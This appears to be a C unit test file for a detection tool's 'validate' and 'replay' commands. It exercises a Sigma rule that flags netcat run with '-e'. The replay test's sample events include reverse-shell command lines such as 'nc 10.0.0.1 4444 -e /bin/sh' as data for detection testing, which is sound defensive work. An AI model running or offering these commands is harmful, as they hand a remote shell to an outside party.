/*
 * `ringward validate` and `ringward replay`, called as main() calls them,
 * with real files in a temporary directory and their output captured:
 * exit status, the exact error lines, the JSON forms, and the alert
 * records replay prints (rule id, name, author, tags, severity, and the
 * event they came from).
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "testlib.h"

#include "cli.h"
#include "common/ecs_out.h"
#include "common/event.h"

static char *dir;

static int setup(void **state)
{
	dir = rwt_mkdtemp("sigma-cli");
	return dir ? 0 : -1;
}

static int teardown(void **state)
{
	rwt_rmtree(dir);
	free(dir);
	return 0;
}

static char *path_of(const char *name)
{
	char *p;

	assert_true(asprintf(&p, "%s/%s", dir, name) > 0);
	return p;
}

static void write_file(const char *name, const char *text, size_t len)
{
	char *p = path_of(name);
	FILE *f = fopen(p, "w");

	assert_non_null(f);
	assert_int_equal(fwrite(text, 1, len, f), len);
	fclose(f);
	free(p);
}

static char *read_file(const char *path)
{
	FILE *f = fopen(path, "r");
	char *buf;
	long n;

	assert_non_null(f);
	fseek(f, 0, SEEK_END);
	n = ftell(f);
	fseek(f, 0, SEEK_SET);
	buf = calloc(1, (size_t)n + 1);
	assert_non_null(buf);
	assert_int_equal(fread(buf, 1, (size_t)n, f), (size_t)n);
	fclose(f);
	return buf;
}

struct run {
	int rc;
	char *out, *err;	/* from malloc() */
};

/* Run cmd(argc, argv) with stdout and stderr captured in files. */
static struct run run(int (*cmd)(int, char **), int argc, const char *const argv[])
{
	char *outp = path_of("stdout"), *errp = path_of("stderr");
	int o = open(outp, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	int e = open(errp, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	int so = dup(1), se = dup(2);
	char **args = calloc((size_t)argc + 1, sizeof(*args));
	struct run r;

	assert_true(o >= 0 && e >= 0 && so >= 0 && se >= 0 && args);
	for (int i = 0; i < argc; i++)
		args[i] = strdup(argv[i]);
	fflush(stdout);
	fflush(stderr);
	dup2(o, 1);
	dup2(e, 2);
	r.rc = cmd(argc, args);
	fflush(stdout);
	fflush(stderr);
	dup2(so, 1);
	dup2(se, 2);
	close(o);
	close(e);
	close(so);
	close(se);
	for (int i = 0; i < argc; i++)
		free(args[i]);
	free(args);
	r.out = read_file(outp);
	r.err = read_file(errp);
	free(outp);
	free(errp);
	return r;
}

static void run_free(struct run *r)
{
	free(r->out);
	free(r->err);
}

#define GOOD_RULE                                                              \
	"title: Netcat with -e\n"                                              \
	"id: 9a0c1e52-6f0b-4c35-9d0e-4b7b7d5a1c01\n"                           \
	"description: A shell handed to the network\n"                         \
	"author: Test Author\n"                                                \
	"tags: [attack.execution, attack.t1059.004]\n"                         \
	"logsource: {product: linux, category: process_creation}\n"            \
	"detection:\n"                                                         \
	"    sel:\n"                                                           \
	"        Image|endswith: [/nc, /ncat]\n"                               \
	"        CommandLine|contains: ' -e '\n"                               \
	"    condition: sel\n"                                                 \
	"level: high\n"

#define BAD_RULE                                                               \
	"title: Bad\n"                                                         \
	"id: 9a0c1e52-6f0b-4c35-9d0e-4b7b7d5a1c02\n"                           \
	"logsource: {product: linux, category: process_creation}\n"            \
	"detection:\n"                                                         \
	"    sel:\n"                                                           \
	"        Imagee|endswith: /nc\n"                                       \
	"    condition: sel\n"

static void test_validate_ok(void **state)
{
	char *p;
	struct run r;

	write_file("good.yml", GOOD_RULE, strlen(GOOD_RULE));
	p = path_of("good.yml");
	r = run(cmd_validate, 2, (const char *const[]){ "validate", p });
	assert_int_equal(r.rc, 0);
	assert_string_equal(r.out, "ok: 1 rules in 1 files\n");
	assert_string_equal(r.err, "");
	run_free(&r);
	free(p);
}

static void test_validate_errors(void **state)
{
	char *p, want[1024];
	struct run r;

	write_file("bad.yml", BAD_RULE, strlen(BAD_RULE));
	p = path_of("bad.yml");
	r = run(cmd_validate, 2, (const char *const[]){ "validate", p });
	assert_int_equal(r.rc, 1);
	snprintf(want, sizeof(want), "%s:6:9: error: rule 9a0c1e52-6f0b-4c35-9d0e-4b7b7d5a1c02: "
		 "field 'Imagee' is not supplied for category 'process_creation' by this sensor "
		 "(schema 2)\n1 error\n", p);
	assert_string_equal(r.out, want);
	run_free(&r);

	/* --json */
	r = run(cmd_validate, 3, (const char *const[]){ "validate", "--json", p });
	assert_int_equal(r.rc, 1);
	{
		json_object *o = json_tokener_parse(r.out), *errs, *e0;

		assert_non_null(o);
		assert_false(json_object_get_boolean(rwt_get(o, "valid")));
		assert_int_equal(rwt_int(o, "error_count", -1), 1);
		errs = rwt_get(o, "errors");
		assert_int_equal(json_object_array_length(errs), 1);
		e0 = json_object_array_get_idx(errs, 0);
		assert_string_equal(rwt_str(e0, "file"), p);
		assert_int_equal(rwt_int(e0, "line", 0), 6);
		assert_int_equal(rwt_int(e0, "column", 0), 9);
		assert_string_equal(rwt_str(e0, "level"), "error");
		assert_string_equal(rwt_str(e0, "rule"), "9a0c1e52-6f0b-4c35-9d0e-4b7b7d5a1c02");
		assert_string_equal(rwt_str(e0, "message"), "field 'Imagee' is not supplied for "
				    "category 'process_creation' by this sensor (schema 2)");
		json_object_put(o);
	}
	run_free(&r);
	free(p);
}

static void test_validate_usage(void **state)
{
	struct run r = run(cmd_validate, 2, (const char *const[]){ "validate", "--help" });

	assert_int_equal(r.rc, 0);
	assert_non_null(strstr(r.out, "usage: ringward validate [--json]"));
	run_free(&r);
	r = run(cmd_validate, 1, (const char *const[]){ "validate" });
	assert_int_equal(r.rc, 2);
	assert_non_null(strstr(r.err, "no PATH given"));
	run_free(&r);
	r = run(cmd_validate, 3, (const char *const[]){ "validate", "--bogus", "x" });
	assert_int_equal(r.rc, 2);
	run_free(&r);
}

/* The JSON line the sensor would write for this exec event. */
static void append_exec(struct strbuf *sb, const char *image, const char *cmd, int pid)
{
	struct rw_event *ev = rw_event__new();

	rw_event__set_time(ev, RW_F_TIMESTAMP, 1795680743123456789ull);
	rw_event__set_cstr(ev, RW_F_EVENT_KIND, "event");
	rw_event__set_cstr(ev, RW_F_EVENT_CATEGORY, "process");
	rw_event__set_cstr(ev, RW_F_EVENT_ACTION, "exec");
	rw_event__set_int(ev, RW_F_PROC_PID, pid);
	rw_event__set_cstr(ev, RW_F_PROC_EXECUTABLE, image);
	rw_event__set_cstr(ev, RW_F_PROC_COMMAND_LINE, cmd);
	rw_event__add_strv(ev, RW_F_PROC_ARGS, "nc", 2);
	ecs__write_json(sb, ev);
	free(ev);
}

static void test_replay_prints_alerts(void **state)
{
	struct strbuf sb = { 0 };
	char *rules, *events;
	struct run r;
	json_object *a;
	char *nl;

	write_file("good.yml", GOOD_RULE, strlen(GOOD_RULE));
	append_exec(&sb, "/usr/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh", 101);
	append_exec(&sb, "/usr/bin/nc", "nc -l 4444", 102);		/* no -e */
	append_exec(&sb, "/usr/bin/ncat", "ncat x 1 -e /bin/bash", 103);
	write_file("events.jsonl", sb.buf, sb.len);
	strbuf__free(&sb);
	rules = path_of("good.yml");
	events = path_of("events.jsonl");
	r = run(cmd_replay, 4, (const char *const[]){ "replay", "--content", rules, events });
	assert_int_equal(r.rc, 0);
	assert_non_null(strstr(r.err, "replay: 3 events, 2 alerts, 0 unreadable lines"));
	/* two lines, one alert each */
	nl = strchr(r.out, '\n');
	assert_non_null(nl);
	*nl = 0;
	a = json_tokener_parse(r.out);
	assert_non_null(a);
	assert_string_equal(rwt_str(a, "event.kind"), "alert");
	assert_string_equal(rwt_str(a, "event.action"), "exec");
	assert_int_equal(rwt_int(a, "event.severity", 0), 4);
	assert_string_equal(rwt_str(a, "rule.id"), "9a0c1e52-6f0b-4c35-9d0e-4b7b7d5a1c01");
	assert_string_equal(rwt_str(a, "rule.name"), "Netcat with -e");
	assert_string_equal(rwt_str(a, "rule.description"), "A shell handed to the network");
	assert_string_equal(json_object_get_string(json_object_array_get_idx(
		rwt_get(a, "rule.author"), 0)), "Test Author");
	assert_int_equal(json_object_array_length(rwt_get(a, "tags")), 2);
	assert_string_equal(json_object_get_string(json_object_array_get_idx(rwt_get(a, "tags"), 1)),
			    "attack.t1059.004");
	assert_string_equal(rwt_str(a, "ringward.rule.level"), "high");
	assert_string_equal(rwt_str(a, "ringward.rule.action"), "alert");
	/* the event it came from, as it was */
	assert_int_equal(rwt_int(a, "process.pid", 0), 101);
	assert_string_equal(rwt_str(a, "process.command_line"), "nc 10.0.0.1 4444 -e /bin/sh");
	assert_string_equal(rwt_str(a, "@timestamp"), "2026-11-26T08:12:23.123456789Z");
	json_object_put(a);
	a = json_tokener_parse(nl + 1);
	assert_non_null(a);
	assert_int_equal(rwt_int(a, "process.pid", 0), 103);
	json_object_put(a);
	run_free(&r);

	/* text format */
	r = run(cmd_replay, 6, (const char *const[]){ "replay", "--format", "text", "--content",
						      rules, events });
	assert_int_equal(r.rc, 0);
	assert_non_null(strstr(r.out, "[alert] exec pid=101 /usr/bin/nc"));
	run_free(&r);
	free(rules);
	free(events);
}

static void test_replay_errors(void **state)
{
	char *rules, *bad, *events;
	struct run r;
	const char lines[] = "{\"event\":{\"action\":\"exec\"}}\nnot json\n\n{\"event\":{}}\n";

	write_file("good.yml", GOOD_RULE, strlen(GOOD_RULE));
	write_file("bad.yml", BAD_RULE, strlen(BAD_RULE));
	write_file("mixed.jsonl", lines, sizeof(lines) - 1);
	rules = path_of("good.yml");
	bad = path_of("bad.yml");
	events = path_of("mixed.jsonl");
	/* a line that is not JSON: reported with its number, exit 1 */
	r = run(cmd_replay, 4, (const char *const[]){ "replay", "--content", rules, events });
	assert_int_equal(r.rc, 1);
	assert_non_null(strstr(r.err, "mixed.jsonl:2: error: not a JSON object"));
	assert_non_null(strstr(r.err, "replay: 2 events, 0 alerts, 1 unreadable lines"));
	assert_string_equal(r.out, "");
	run_free(&r);
	/* content that does not load: its errors, exit 1 */
	r = run(cmd_replay, 4, (const char *const[]){ "replay", "--content", bad, events });
	assert_int_equal(r.rc, 1);
	assert_non_null(strstr(r.err, "field 'Imagee' is not supplied"));
	assert_non_null(strstr(r.err, "content did not load"));
	run_free(&r);
	/* usage */
	r = run(cmd_replay, 2, (const char *const[]){ "replay", events });
	assert_int_equal(r.rc, 2);
	run_free(&r);
	r = run(cmd_replay, 2, (const char *const[]){ "replay", "-h" });
	assert_int_equal(r.rc, 0);
	assert_non_null(strstr(r.out, "usage: ringward replay --content PATH"));
	run_free(&r);
	free(rules);
	free(bad);
	free(events);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_validate_ok),
		cmocka_unit_test(test_validate_errors),
		cmocka_unit_test(test_validate_usage),
		cmocka_unit_test(test_replay_prints_alerts),
		cmocka_unit_test(test_replay_errors),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
